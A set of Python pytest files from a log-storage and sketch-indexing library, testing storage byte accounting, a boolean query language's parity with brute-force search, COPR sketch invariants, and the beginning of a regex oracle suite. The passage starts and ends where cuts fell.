    def test_sketch_probe_kernel_bit_exact(self, ints):
        from repro.kernels import ops

        fps = np.unique(fingerprint_tokens(_token_stream(ints)))
        m = build_mphf(fps)
        idx = m.eval_batch(fps)
        sigs = np.zeros(m.n_keys, np.uint32)
        sigs[idx] = fps
        probe = ops.make_sketch_probe(m, sigs)
        probes = np.concatenate([fps, fps ^ np.uint32(1)])
        assert np.array_equal(
            np.asarray(probe(probes)), jnp_ref.sketch_probe_ref(probes, m, sigs)
        )

    @settings(max_examples=10, deadline=None)
    @given(tokens_strategy)
    def test_token_fingerprint_op_bit_exact(self, ints):
        from repro.kernels import ops

        slab, starts, lengths = _span_slab(ints)
        got = np.asarray(ops.token_fingerprint(slab, starts, lengths, backend="bass"))
        assert np.array_equal(got, jnp_ref.token_fingerprint_ref(slab, starts, lengths))
