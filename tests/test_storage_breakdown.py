"""storage_breakdown(): per-component bytes measured from the StoreDir.

The contract (docs/results.md table 1 is built on it): for every store kind,
finished and reopened, the component values sum EXACTLY to the on-disk
directory size — nothing estimated, nothing double-counted, nothing missed.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from repro.data import make_dataset
from repro.logstore import create_store, open_store

KINDS = ["copr", "sharded", "csc", "inverted", "scan"]

KW = dict(lines_per_batch=16, max_batches=4096)
EXTRA = {
    "csc": dict(m_bits=1 << 14),
    "sharded": dict(n_shards=2, lines_per_segment=64),
}


def _dir_bytes(root) -> int:
    return sum(p.stat().st_size for p in root.rglob("*") if p.is_file())


def _build(kind: str, path, n_lines: int = 400):
    ds = make_dataset("small", n_lines, seed=7)
    st = create_store(kind, path=path, **{**KW, **EXTRA.get(kind, {})})
    for line, src in zip(ds.lines, ds.sources):
        st.ingest(line, src)
    st.finish()
    return st


@pytest.mark.parametrize("kind", KINDS)
def test_components_sum_to_directory_size_finished(tmp_path, kind):
    st = _build(kind, tmp_path)
    bd = st.storage_breakdown()
    assert sum(bd.values()) == _dir_bytes(tmp_path)
    assert all(v >= 0 for v in bd.values()), bd
    # framing (headers + padding) must stay a sliver of the index bytes
    index_total = sum(v for k, v in bd.items() if k.startswith("index_"))
    assert bd["index_other"] <= max(4096, index_total // 10)
    st.close()


@pytest.mark.parametrize("kind", KINDS)
def test_components_sum_after_reopen(tmp_path, kind):
    _build(kind, tmp_path).close()
    st = open_store(tmp_path)
    bd = st.storage_breakdown()
    assert sum(bd.values()) == _dir_bytes(tmp_path)
    # finished reopen: WAL truncated, all durable bytes in named components.
    # Payload bytes live in data/ (raw codec) or payloads/ (template codec),
    # whichever the store sealed with — but never nowhere.
    assert bd["wal"] == 0
    payload = bd["batch_payloads"] + bd["payload_templates"] + bd["payload_variables"]
    assert payload > 0
    if st.payload_codec == "template":
        assert bd["batch_payloads"] == 0 and bd["payload_variables"] > 0
    assert bd["manifest"] > 0
    st.close()


def test_every_component_key_is_documented(tmp_path):
    """Drift guard (ISSUE 9): any component key a store can report must be
    documented in docs/persistence.md's storage-accounting table, and every
    residual component must be non-negative — a new component that silently
    misses the docs (or goes negative from double-counting) fails here."""
    doc = (Path(__file__).parents[1] / "docs" / "persistence.md").read_text()
    for kind in KINDS:
        st = _build(kind, tmp_path / kind)
        bd = st.storage_breakdown()
        for key, v in bd.items():
            assert f"`{key}`" in doc, f"{kind}: {key!r} missing from docs/persistence.md"
            assert v >= 0, (kind, key, v)
        st.close()


def test_component_names_per_store(tmp_path):
    expected = {
        "copr": {"index_mphf", "index_signatures", "index_csf", "index_postings"},
        "sharded": {"index_mphf", "index_signatures", "index_csf", "index_postings"},
        "csc": {"index_bits"},
        "inverted": {"index_lexicon", "index_postings", "index_offsets"},
        "scan": set(),
    }
    for kind, want in expected.items():
        st = _build(kind, tmp_path / kind)
        bd = st.storage_breakdown()
        have = {k for k, v in bd.items() if k.startswith("index_") and v > 0 and k != "index_other"}
        assert have == want, (kind, bd)
        if want:  # sketch/index stores must put real weight in components
            assert sum(bd[k] for k in want) > 0
        st.close()


def test_breakdown_matches_sealed_sketch_sections(tmp_path):
    """copr: component split equals the sealed buffer's section accounting."""
    st = _build("copr", tmp_path)
    comps = st._reader.component_nbytes()
    assert sum(comps.values()) == sum(st._reader.section_nbytes().values())
    bd = st.storage_breakdown()
    for name, v in comps.items():
        assert bd[f"index_{name}"] == v
    # header + padding is the only unmapped remainder of the sketch file
    assert bd["index_other"] == st._reader.nbytes() - sum(comps.values())
    st.close()


def test_unfinished_store_accounts_wal(tmp_path):
    st = create_store("sharded", path=tmp_path, **{**KW, **EXTRA["sharded"]})
    for i in range(100):
        st.ingest(f"INFO: request {i} ok", f"src-{i % 3}")
    bd = st.storage_breakdown()  # flushes internally, then measures
    assert sum(bd.values()) == _dir_bytes(tmp_path)
    assert bd["wal"] > 0  # the unsealed tail is WAL-durable
    st.close()


def test_in_memory_store_raises():
    st = create_store("copr", **KW)
    with pytest.raises(RuntimeError, match="persisted StoreDir"):
        st.storage_breakdown()
