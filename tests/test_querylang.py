"""Structured query API: AST semantics, candidate algebra, store parity.

The load-bearing guarantee: for ANY boolean query AST, ``store.search(q)``
returns exactly the lines a brute-force scan returns — the candidate phase
(sketch probes + set algebra, NOT-complement included) may only decide which
batches get decompressed, never which lines match.
"""

import numpy as np
import pytest

from repro.core.querylang import (
    And,
    Contains,
    Not,
    Or,
    Source,
    Term,
    as_query,
    atoms,
    candidate_sets,
    matches_line,
    merged_atoms,
)
from repro.data import make_dataset
from repro.logstore import STORE_CLASSES, create_store


def _store_kw(name):
    kw = dict(lines_per_batch=64, max_batches=512)
    if name == "csc":
        kw["m_bits"] = 1 << 18
    if name == "sharded":
        kw.update(n_shards=2, lines_per_segment=400)
    return kw


@pytest.fixture(scope="module")
def corpus():
    return make_dataset("small", 3000, seed=41)


@pytest.fixture(scope="module")
def finished_stores(corpus):
    out = {}
    for name in STORE_CLASSES:
        st = create_store(name, **_store_kw(name))
        for line, src in zip(corpus.lines, corpus.sources):
            st.ingest(line, src)
        st.finish()
        out[name] = st
    return out


@pytest.fixture(scope="module")
def midingest_stores(corpus):
    """Stores with finish() never called: batches split between published
    nothing / writer-sealed / still-open buffers."""
    out = {}
    for name in STORE_CLASSES:
        st = create_store(name, **_store_kw(name))
        for line, src in zip(corpus.lines[:1800], corpus.sources[:1800]):
            st.ingest(line, src)
        out[name] = st
    return out


def _queries(corpus):
    """A battery of ASTs exercising every node type, nesting included."""
    src_a, src_b = corpus.sources[3], corpus.sources[57]
    needle = corpus.lines[100].split()[-1]
    return [
        Term("error"),
        Term("err"),    # an indexed 3-gram but never a full token → no lines
        Term("rror"),   # neither token nor gram → planner finds no candidates
        Contains("onnection"),
        Contains("err"),
        Contains("processing request"),  # spans a token boundary
        Contains(needle),
        Source(src_a),
        And(Contains("error"), Not(Term("debug")), Source(src_a)),  # acceptance AST
        Or(Contains("timeout"), Contains("broken")),
        And(Contains("error"), Not(Contains("retries"))),
        Not(Contains("info")),
        Or(And(Contains("warn"), Source(src_b)), Contains(needle)),
        And(Or(Term("error"), Term("warn")), Not(Source(src_a))),
        Not(Not(Contains("error"))),
        And(Contains("user"), Contains("session")),
        Or(Source(src_a), Source(src_b)),
        And(),  # matches everything
        Or(),  # matches nothing
        Contains("qzjxkwvpqzjxkwvp"),  # absent needle
        Not(Contains("qzjxkwvpqzjxkwvp")),  # everything, via complement
    ]


class TestAst:
    def test_matches_line_truth_table(self):
        line = "ERROR: Failed to authenticate user abc from 1.2.3.4"
        assert matches_line(Term("error"), line)
        assert matches_line(Contains("authenticate"), line)
        assert not matches_line(Contains("debug"), line)
        # Term is full-token membership, Contains is substring
        assert not matches_line(Term("err"), line)
        assert matches_line(Contains("err"), line)
        assert not matches_line(Term("errors"), line)
        assert matches_line(Contains("ailed to auth"), line)
        assert not matches_line(Term("ailed to auth"), line)
        assert matches_line(Source("web"), line, "web")
        assert not matches_line(Source("web"), line, "db")
        assert matches_line(And(Term("error"), Contains("user")), line)
        assert not matches_line(And(Term("error"), Contains("debug")), line)
        assert matches_line(Or(Contains("debug"), Contains("user")), line)
        assert matches_line(Not(Contains("debug")), line)
        assert matches_line(And(), line)
        assert not matches_line(Or(), line)

    def test_operator_sugar(self):
        q = (Contains("a") | Contains("b")) & ~Source("web")
        assert isinstance(q, And)
        assert isinstance(q.children[0], Or)
        assert isinstance(q.children[1], Not)
        assert q.children[1].child == Source("web")

    def test_as_query_coerces_strings(self):
        assert as_query("abc") == Contains("abc")
        q = Term("x")
        assert as_query(q) is q
        with pytest.raises(TypeError):
            as_query(123)

    def test_atoms_dedup_and_order(self):
        q = And(Contains("a"), Or(Term("a"), Contains("a")), Not(Term("b")),
                Source("web"))
        assert atoms(q) == [("a", True), ("a", False), ("b", False)]
        # Source contributes no planner atom
        assert atoms(Source("web")) == []
        assert merged_atoms([Term("a"), Term("a"), Contains("c")]) == [
            ("a", False), ("c", True)]
        # case-variant leaves share one planner atom (probes lowercase)
        assert merged_atoms([Term("Error"), Term("error")]) == [("error", False)]

    def test_query_hashable_and_frozen(self):
        assert And(Term("a")) == And(Term("a"))
        assert len({Term("a"), Term("a"), Contains("a")}) == 2
        with pytest.raises(AttributeError):
            Term("a").text = "b"


class TestCandidateAlgebra:
    UNIVERSE = frozenset(range(8))

    def _sets(self, **kw):
        base = {("a", True): frozenset({1, 2}), ("b", True): frozenset({2, 3})}
        base.update(kw)
        return base

    def _sources(self, name):
        return frozenset({5, 6}) if name == "web" else frozenset()

    def test_and_or_not(self):
        sets = self._sets()
        args = (sets, self.UNIVERSE, self._sources)
        maybe, _ = candidate_sets(And(Contains("a"), Contains("b")), *args)
        assert maybe == {2}
        maybe, _ = candidate_sets(Or(Contains("a"), Contains("b")), *args)
        assert maybe == {1, 2, 3}
        # NOT of a sketch leaf cannot prune (leaf certainty is empty)
        maybe, _ = candidate_sets(Not(Contains("a")), *args)
        assert maybe == self.UNIVERSE
        # ...but NOT of an exact Source filter prunes exactly
        maybe, certain = candidate_sets(Not(Source("web")), *args)
        assert maybe == certain == self.UNIVERSE - {5, 6}

    def test_not_and_interplay(self):
        args = (self._sets(), self.UNIVERSE, self._sources)
        q = And(Contains("a"), Not(Contains("b")))
        maybe, _ = candidate_sets(q, *args)
        # the b-leaf's candidates may still hold lines matching NOT b —
        # the AND may only narrow to a's candidates
        assert maybe == {1, 2}

    def test_double_negation_recovers_leaf_candidates(self):
        """¬¬a flips the bounds twice: maybe(¬¬a) == maybe(a) — the algebra
        loses nothing through double negation."""
        args = (self._sets(), self.UNIVERSE, self._sources)
        maybe, certain = candidate_sets(Not(Not(Contains("a"))), *args)
        assert maybe == {1, 2}
        assert certain == frozenset()


def _truth(corpus, q, n=None):
    lines = corpus.lines if n is None else corpus.lines[:n]
    sources = corpus.sources if n is None else corpus.sources[:n]
    return sorted(l for l, s in zip(lines, sources) if matches_line(q, l, s))


class TestSearchParity:
    """search(q) == brute force, for every store, finished and mid-ingest."""

    @pytest.mark.parametrize("name", ["copr", "sharded", "csc", "inverted", "scan"])
    def test_finished_parity(self, finished_stores, corpus, name):
        st = finished_stores[name]
        for q in _queries(corpus):
            got = sorted(st.search(q).lines)
            assert got == _truth(corpus, q), (name, q)

    @pytest.mark.parametrize("name", ["copr", "sharded", "csc", "inverted", "scan"])
    def test_midingest_parity(self, midingest_stores, corpus, name):
        st = midingest_stores[name]
        for q in _queries(corpus):
            got = sorted(st.search(q).lines)
            assert got == _truth(corpus, q, n=1800), (name, q)

    def test_acceptance_ast_matches_scanstore(self, finished_stores, corpus):
        """The ISSUE's acceptance query, checked against ScanStore directly."""
        q = And(Contains("error"), Not(Term("debug")), Source(corpus.sources[3]))
        want = sorted(finished_stores["scan"].search(q).lines)
        assert want == _truth(corpus, q)
        for name in ("copr", "sharded", "csc", "inverted"):
            assert sorted(finished_stores[name].search(q).lines) == want, name

    def test_search_many_matches_search(self, finished_stores, corpus):
        qs = _queries(corpus)
        for name in ("copr", "sharded"):
            st = finished_stores[name]
            batched = st.search_many(qs)
            for q, r in zip(qs, batched):
                assert sorted(r.lines) == sorted(st.search(q).lines), (name, q)

    def test_candidates_are_supersets(self, finished_stores, corpus):
        """The planner contract: candidate sets never drop a matching batch."""
        for name, st in finished_stores.items():
            srcs = st.batch_sources()
            for q in _queries(corpus):
                res = st.search(q)
                # recompute truth per batch: any batch holding a matching line
                # must be among the candidates the pipeline verified
                assert res.n_verified_batches <= res.n_candidate_batches \
                    or not st.finished
                got = sorted(res.lines)
                assert got == _truth(corpus, q), (name, q)
                assert len(srcs) == st.n_batches


class TestSearchResult:
    def test_counters_and_timings(self, finished_stores, corpus):
        st = finished_stores["copr"]
        needle = corpus.lines[100].split()[-1]
        res = st.search(Contains(needle))
        assert res.lines
        assert len(res) == len(res.lines)
        assert 1 <= res.n_verified_batches <= res.n_candidate_batches <= st.n_batches
        # a selective needle must not decompress the whole store
        assert res.n_candidate_batches < st.n_batches
        for key in ("plan_s", "verify_s", "total_s"):
            assert res.timings[key] >= 0.0

    def test_source_only_query_is_exact(self, finished_stores, corpus):
        st = finished_stores["sharded"]
        src = corpus.sources[3]
        res = st.search(Source(src))
        want = sorted(l for l, s in zip(corpus.lines, corpus.sources) if s == src)
        assert sorted(res.lines) == want
        # Source rides exact batch metadata: candidates == that source's batches
        n_src_batches = sum(1 for g in st.batch_sources().values() if g == src)
        assert res.n_candidate_batches == n_src_batches

    def test_post_filter_public_hook(self, finished_stores, corpus):
        st = finished_stores["copr"]
        ids = sorted(st.known_batch_ids())
        q = And(Contains("error"), Not(Contains("retries")))
        assert sorted(st.post_filter(ids, q)) == _truth(corpus, q)
        # string argument keeps legacy substring semantics
        assert sorted(st.post_filter(ids, "onnection")) == \
            _truth(corpus, Contains("onnection"))


class TestDeprecatedShims:
    """Shims warn once per process (store._WARNED registry) and delegate."""

    @pytest.fixture(autouse=True)
    def _fresh_warning_registry(self):
        from repro.logstore import store as store_mod

        store_mod._WARNED.clear()
        yield
        store_mod._WARNED.clear()

    def test_query_term_and_contains_warn_but_match(self, finished_stores, corpus):
        st = finished_stores["copr"]
        needle = corpus.lines[200].split()[-1]
        with pytest.warns(DeprecationWarning):
            legacy = st.query_contains(needle)
        assert sorted(legacy) == sorted(st.search(Contains(needle)).lines)
        with pytest.warns(DeprecationWarning):
            legacy = st.query_term("error")
        assert sorted(legacy) == sorted(st.search(Term("error")).lines)

    def test_plan_candidates_shim(self, finished_stores):
        st = finished_stores["sharded"]
        with pytest.warns(DeprecationWarning):
            legacy = st.plan_candidates([("error", True)])
        assert legacy == st.plan([("error", True)])

    @pytest.mark.parametrize(
        "kind", ["copr", "sharded", "csc", "inverted", "scan"]
    )
    def test_plan_candidates_shim_normalizes_every_store(self, finished_stores, kind):
        """The legacy surface accepted un-normalized inputs — mixed-case text
        and truthy (non-bool) flags — that ``plan()``'s AtomKey contract
        forbids.  The shim must normalize so both surfaces coincide on every
        store, not just the ones whose planners happen to lowercase."""
        st = finished_stores[kind]
        legacy_queries = [("Error", 1), ("CONNECTION", 0), ("error", True)]
        normalized = [("error", True), ("connection", False), ("error", True)]
        with pytest.warns(DeprecationWarning):
            legacy = st.plan_candidates(legacy_queries)
        assert [sorted(c) for c in legacy] == [sorted(c) for c in st.plan(normalized)]

    def test_private_post_filter_shim(self, finished_stores, corpus):
        st = finished_stores["copr"]
        ids = sorted(st.known_batch_ids())
        with pytest.warns(DeprecationWarning):
            legacy = st._post_filter(ids, "error")
        assert sorted(legacy) == _truth(corpus, Contains("error"))

    def test_shims_warn_exactly_once_per_process(self, finished_stores, corpus):
        """Second call must stay silent but still delegate correctly."""
        import warnings as warnings_mod

        st = finished_stores["copr"]
        with pytest.warns(DeprecationWarning):
            first = st.query_contains("error")
        with pytest.warns(DeprecationWarning):
            st.query_term("error")
        with warnings_mod.catch_warnings():
            warnings_mod.simplefilter("error")  # any further warning raises
            again = st.query_contains("connection")
            term = st.query_term("error")
        assert sorted(first) == _truth(corpus, Contains("error"))
        assert sorted(again) == _truth(corpus, Contains("connection"))
        assert sorted(term) == sorted(st.search(Term("error")).lines)


class TestAttributePrefilter:
    """serve/retrieval runs the same Query→Plan pipeline over item blocks."""

    @pytest.fixture(scope="class")
    def corpus_attrs(self):
        from repro.serve import build_attribute_index

        rng = np.random.default_rng(9)
        attrs = [
            [f"brand-{int(rng.integers(0, 6))}", f"cat-{int(rng.integers(0, 3))}"]
            for _ in range(2000)
        ]
        return attrs, build_attribute_index(attrs, block_size=64)

    def test_structured_blocks_are_supersets(self, corpus_attrs):
        from repro.serve import plan_attribute_blocks

        attrs, corpus = corpus_attrs
        q = And(Or(Term("brand-1"), Term("brand-2")), Not(Term("cat-0")))
        (blocks,) = plan_attribute_blocks(corpus, [q])
        truth = {
            i // 64
            for i, a in enumerate(attrs)
            if (("brand-1" in a) or ("brand-2" in a)) and "cat-0" not in a
        }
        assert truth <= set(blocks)
        assert set(blocks) <= set(range(corpus.n_blocks))

    def test_contains_falls_back_to_universe(self, corpus_attrs):
        """The corpus indexes whole attributes (no n-grams), so Contains
        cannot be bounded — it must widen to every block, never drop items."""
        from repro.serve import plan_attribute_blocks

        _, corpus = corpus_attrs
        (blocks,) = plan_attribute_blocks(corpus, [Contains("rand-1")])
        assert blocks == list(range(corpus.n_blocks))
        # ...and inside an AND it simply stops pruning, keeping Term's bound
        (and_blocks,) = plan_attribute_blocks(
            corpus, [And(Term("cat-1"), Contains("rand-1"))]
        )
        (term_blocks,) = plan_attribute_blocks(corpus, [Term("cat-1")])
        assert and_blocks == term_blocks

    def test_legacy_list_form_equals_and_of_terms(self, corpus_attrs):
        from repro.serve import prefilter_candidates_batch

        _, corpus = corpus_attrs
        legacy, structured, empty = prefilter_candidates_batch(
            corpus,
            [["brand-1", "cat-1"], And(Term("brand-1"), Term("cat-1")), []],
        )
        assert legacy.tolist() == structured.tolist()
        assert empty.size == corpus.n_items  # no constraints → every item


class TestCandidateClamping:
    """Regression: plan()/candidate_batches may never invent batch ids."""

    @pytest.mark.parametrize("name", ["copr", "sharded", "csc"])
    def test_candidates_subset_of_known(self, finished_stores, name):
        st = finished_stores[name]
        known = st.known_batch_ids()
        rng = np.random.default_rng(3)
        letters = np.array(list("abcdefghijklmnopqrstuvwxyz"))
        needles = ["".join(rng.choice(letters, 8)) for _ in range(60)]
        for contains in (False, True):
            for ids in st.plan([(n, contains) for n in needles]):
                assert set(ids) <= known, name

    def test_csc_partitions_would_invent_ids_without_clamp(self, finished_stores):
        """CSC maps alive partitions to arange(n_sets) — ids far beyond the
        allocated batches; the clamp must remove them."""
        st = finished_stores["csc"]
        known = st.known_batch_ids()
        assert st.csc.n_sets > max(known) + 1  # phantom headroom exists
        raw = set(st.csc.query(int(np.uint32(12345))).tolist())
        if raw:  # partitions alive → unclamped ids would include phantoms
            assert raw - known, "expected phantom ids in the raw CSC result"
        for ids in st.plan([("error", True), ("warn", False)]):
            assert set(ids) <= known

    @pytest.mark.parametrize("name", ["copr", "sharded", "csc"])
    def test_midingest_candidates_live_in_writer(self, midingest_stores, name):
        """Pre-finish, batches live in the writer; candidates must cover them
        (the old clamp-to-self.batches silently emptied CSC mid-ingest)."""
        st = midingest_stores[name]
        assert not st.finished and not st.batches
        known = st.known_batch_ids()
        assert known  # the writer holds every batch
        (ids,) = st.plan([("error", True)])
        assert set(ids) <= known
        assert st.search(Contains("error")).lines  # finds lines mid-ingest
