"""COPR sketch invariants: NO false negatives ever, dedup correctness,
mutable/immutable agreement, segmentation/merge equivalence."""

import numpy as np

try:
    from hypothesis import given, settings, strategies as st
except ImportError:  # fallback random-case generator (see _hypothesis_fallback)
    from _hypothesis_fallback import given, settings, strategies as st

from repro.core import (
    CoprSketch,
    ImmutableSketch,
    MutableSketch,
    SketchConfig,
    query_and,
    query_or,
    seal,
)
from repro.core.hashing import fingerprint32


def _random_truth(rng, n_tokens, n_postings, max_per_token=6):
    truth = {}
    for t in range(n_tokens):
        k = int(rng.integers(1, max_per_token + 1))
        truth[f"tok{t}"] = set(
            int(x) for x in rng.integers(0, n_postings, size=k)
        )
    return truth


def _fill(sketch_like, truth):
    for tok, posts in truth.items():
        for p in sorted(posts):
            sketch_like.add(fingerprint32(tok), p)


class TestMutableSketch:
    def test_exact_postings(self, rng):
        truth = _random_truth(rng, 500, 64)
        sk = MutableSketch(max_postings=64)
        _fill(sk, truth)
        for tok, want in truth.items():
            got = set(sk.token_postings(fingerprint32(tok)).tolist())
            assert got == want, tok  # mutable sketch is exact per-fingerprint

    def test_duplicate_inserts_are_idempotent(self, rng):
        sk = MutableSketch(max_postings=16)
        fp = fingerprint32("x")
        for _ in range(5):
            sk.add(fp, 3)
            sk.add(fp, 7)
        assert sk.token_postings(fp).tolist() == [3, 7]
        assert sk.n_lists <= 1

    def test_posting_list_dedup(self, rng):
        """Tokens with identical posting sets must share ONE list (§3.2)."""
        sk = MutableSketch(max_postings=64)
        posts = [1, 5, 9]
        for i in range(50):
            for p in posts:
                sk.add(fingerprint32(f"t{i}"), p)
        assert sk.n_lists == 1
        assert sk.lists[next(iter(sk.lists))].refcount == 50

    def test_refcount_deallocation(self):
        sk = MutableSketch(max_postings=64)
        fp1, fp2 = fingerprint32("a"), fingerprint32("b")
        sk.add(fp1, 1)
        sk.add(fp1, 2)  # list {1,2}
        sk.add(fp2, 1)
        sk.add(fp2, 2)  # shares {1,2}
        assert sk.n_lists == 1
        sk.add(fp1, 3)  # forks {1,2,3}
        assert sk.n_lists == 2
        sk.add(fp2, 3)  # rejoins via dedup; {1,2} must deallocate
        assert sk.n_lists == 1

    def test_short_to_bitset_promotion(self):
        sk = MutableSketch(max_postings=4096, short_threshold=4)
        fp = fingerprint32("z")
        want = sorted(set(range(0, 4000, 37)))
        for p in want:
            sk.add(fp, p)
        assert sk.token_postings(fp).tolist() == want

    @given(st.integers(0, 2**31))
    @settings(max_examples=20, deadline=None)
    def test_lookup_map_survives_random_ops(self, seed):
        rng = np.random.default_rng(seed)
        truth = _random_truth(rng, 120, 32, max_per_token=4)
        sk = MutableSketch(max_postings=32)
        _fill(sk, truth)
        # every live list id referenced by the lookup map must exist
        for lid in sk.lookup.values():
            assert lid in sk.lists
        for tok, want in truth.items():
            assert set(sk.token_postings(fingerprint32(tok)).tolist()) == want


class TestImmutableSketch:
    def test_no_false_negatives_and_exact_lists(self, rng):
        truth = _random_truth(rng, 2000, 128)
        sk = MutableSketch(max_postings=128)
        _fill(sk, truth)
        reader = ImmutableSketch.from_buffer(seal(sk, sig_bits=16))
        for tok, want in truth.items():
            got = set(reader.token_postings(fingerprint32(tok)).tolist())
            assert want.issubset(got), tok  # NEVER drop a true posting
            assert got == want  # same fingerprint → exact (FPs need alien fp)

    def test_false_positive_rate_bounded(self, rng):
        truth = _random_truth(rng, 5000, 128)
        sk = MutableSketch(max_postings=128)
        _fill(sk, truth)
        reader = ImmutableSketch.from_buffer(seal(sk, sig_bits=16))
        alien = rng.integers(0, 2**32, size=20000, dtype=np.uint32)
        known = set(fingerprint32(t) for t in truth)
        alien = np.asarray([a for a in alien if int(a) not in known], np.uint32)
        hits = (reader.probe(alien) >= 0).sum()
        # 16 signature bits → ~2^-16 FP rate; allow ~30x headroom (the paper's
        # claim is "orders of magnitude under CSC", not an exact constant)
        assert hits <= max(10, len(alien) * 30 / 65536)

    def test_serialization_roundtrip_zero_parse(self, rng, tmp_path):
        truth = _random_truth(rng, 800, 64)
        sk = MutableSketch(max_postings=64)
        _fill(sk, truth)
        buf = seal(sk, sig_bits=16)
        path = tmp_path / "seg.copr"
        path.write_bytes(buf)
        reader = ImmutableSketch.open_mmap(path)
        for tok, want in truth.items():
            assert set(reader.token_postings(fingerprint32(tok)).tolist()) == want

    def test_rank_order_by_refcount(self, rng):
        """Rank 0 must be the most-referenced list (CSF entropy layout §3.3)."""
        sk = MutableSketch(max_postings=16)
        for i in range(100):  # 100 tokens share {0}
            sk.add(fingerprint32(f"common{i}"), 0)
        for i in range(3):  # 3 tokens share {1, 2}
            sk.add(fingerprint32(f"rare{i}"), 1)
            sk.add(fingerprint32(f"rare{i}"), 2)
        reader = ImmutableSketch.from_buffer(seal(sk))
        assert reader.decode_list(0).tolist() == [0]


class TestSegmentation:
    def test_memory_bounded_merge_equivalence(self, rng):
        """§4.3: segmented construction must equal unsegmented contents."""
        truth = _random_truth(rng, 1500, 64)
        small = CoprSketch(SketchConfig(max_postings=64, memory_limit_bytes=64 * 1024))
        big = CoprSketch(SketchConfig(max_postings=64))
        for tok, posts in truth.items():
            for p in sorted(posts):
                small.add_tokens([tok], p)
                big.add_tokens([tok], p)
        assert len(small.temp_segments) >= 1, "limit must force temp segments"
        r_small = small.seal_reader()
        r_big = big.seal_reader()
        for tok, want in truth.items():
            fp = fingerprint32(tok)
            assert set(r_small.token_postings(fp).tolist()) == want
            assert set(r_big.token_postings(fp).tolist()) == want

    def test_query_spans_open_segments(self, rng):
        sk = CoprSketch(SketchConfig(max_postings=64, memory_limit_bytes=32 * 1024))
        for i in range(800):
            sk.add_tokens([f"t{i}", "shared"], i % 64)
        got = set(sk.query_or(["shared"]).tolist())
        assert got == set(range(64))


class TestSealRoundTrip:
    """Property-style: seal() must preserve query semantics exactly for
    indexed tokens (signature FPs need alien fingerprints, never known ones)."""

    @staticmethod
    def _query_fps(rng, truth, k):
        toks = sorted(truth)
        picks = rng.integers(0, len(toks), size=k)
        return [fingerprint32(toks[int(i)]) for i in picks]

    @given(st.integers(0, 2**31))
    @settings(max_examples=12, deadline=None)
    def test_mutable_immutable_query_agreement(self, seed):
        rng = np.random.default_rng(seed)
        truth = _random_truth(rng, 300, 48, max_per_token=5)
        sk = MutableSketch(max_postings=48)
        _fill(sk, truth)
        reader = ImmutableSketch.from_buffer(seal(sk, sig_bits=16))
        for _ in range(10):
            fps = self._query_fps(rng, truth, int(rng.integers(1, 5)))
            assert query_and(sk, fps).tolist() == query_and(reader, fps).tolist()
            assert query_or(sk, fps).tolist() == query_or(reader, fps).tolist()

    @given(st.integers(0, 2**31))
    @settings(max_examples=6, deadline=None)
    def test_temp_segment_seal_roundtrip(self, seed):
        """The §4.3 full-fingerprint path: memory-bounded construction with
        forced temp segments must seal to the same answers as one big
        mutable sketch over the same workload."""
        rng = np.random.default_rng(seed)
        truth = _random_truth(rng, 600, 48, max_per_token=5)
        small = CoprSketch(SketchConfig(max_postings=48))
        big = MutableSketch(max_postings=48)
        for i, (tok, posts) in enumerate(truth.items()):
            for p in sorted(posts):
                small.add_fingerprints(
                    np.asarray([fingerprint32(tok)], dtype=np.uint32), p
                )
                big.add(fingerprint32(tok), p)
            if i % 150 == 149:  # deterministic §4.3 flush, not estimate-driven
                small.flush_temp_segment()
        assert len(small.temp_segments) >= 3, "flushes must create temp segments"
        reader = small.seal_reader()
        for _ in range(10):
            fps = self._query_fps(rng, truth, int(rng.integers(1, 5)))
            assert query_and(reader, fps).tolist() == query_and(big, fps).tolist()
            assert query_or(reader, fps).tolist() == query_or(big, fps).tolist()

    def test_temporary_seal_is_exact(self, rng):
        """Full-fingerprint (temporary) seals admit NO membership FPs."""
        truth = _random_truth(rng, 2000, 64)
        sk = MutableSketch(max_postings=64)
        _fill(sk, truth)
        reader = ImmutableSketch.from_buffer(seal(sk, temporary=True))
        known = set(fingerprint32(t) for t in truth)
        alien = rng.integers(0, 2**32, size=20000, dtype=np.uint32)
        alien = np.asarray([a for a in alien if int(a) not in known], np.uint32)
        assert (reader.probe(alien) < 0).all()


class TestQueryExecution:
    def test_and_or_semantics(self, rng):
        sk = CoprSketch(SketchConfig(max_postings=32))
        sk.add_tokens(["alpha"], 1)
        sk.add_tokens(["alpha", "beta"], 2)
        sk.add_tokens(["beta"], 3)
        r = sk.seal_reader()
        assert query_and(r, ["alpha", "beta"]).tolist() == [2]
        assert query_or(r, ["alpha", "beta"]).tolist() == [1, 2, 3]

    def test_and_unknown_token_is_empty(self):
        sk = CoprSketch(SketchConfig(max_postings=32))
        sk.add_tokens(["alpha"], 1)
        r = sk.seal_reader()
        assert query_and(r, ["alpha", "never-seen-xyz"]).size == 0

    def test_early_termination(self):
        from repro.core.query import IntersectConsumer, execute_query

        sk = CoprSketch(SketchConfig(max_postings=32))
        sk.add_tokens(["a"], 1)
        r = sk.seal_reader()
        c = execute_query(r, ["zz-unknown", "a"], IntersectConsumer())
        assert c.result == set()  # stopped after the unknown token
