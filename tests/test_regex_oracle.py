"""Differential regex oracle: every store × every lifecycle vs brute-force re.

The literal-extraction prefilter (``core.regex_prefilter``) is the kind of
code that is subtly wrong in a dozen corner cases — alternation that doesn't
force every branch to contribute, bounded repetition treated as exact,
IGNORECASE folds that miss the Unicode equivalence classes, anchors leaking
into the joined slab.  The only trustworthy specification is Python's ``re``
itself, so this suite pins ``search(Regex(p, f))`` for **every store kind**
(copr, sharded, csc, inverted, scan) in **three lifecycles** (finished,
mid-ingest, mmap-reopened) against ``re.search`` run over every visible line
— the result must be *byte-identical* (same lines, same store order), not
merely set-equal.

The pattern table leans into the traps: alternation, ``^``/``$``/``\\b``
anchors, bounded repetition, char classes, IGNORECASE with the U+212A
(KELVIN SIGN → ``k``) and U+0130 (``İ`` → ``i̇``) casefold traps the
linefilter documents, non-ASCII lines, and degenerate no-literal patterns.
"""

from __future__ import annotations

import re

import pytest

from repro.logstore import STORE_CLASSES, Regex, create_store, open_store

# -- corpus ----------------------------------------------------------------------------

CORPUS = [
    "ERROR: disk full on /dev/sda1",
    "error: retrying in 5s",
    "Error while opening socket",
    "WARN conn42 reset by peer",
    "warn conn7 reset by peer",
    "INFO conn1234 established",
    "GET /api/v1/users 200 12ms",
    "POST /api/v2/users 500 93ms",
    "GET /api/v2/items 404 3ms",
    "DELETE /api/v1/items 204 1ms",
    "temperature 290K outside range",  # KELVIN SIGN folds to "k"
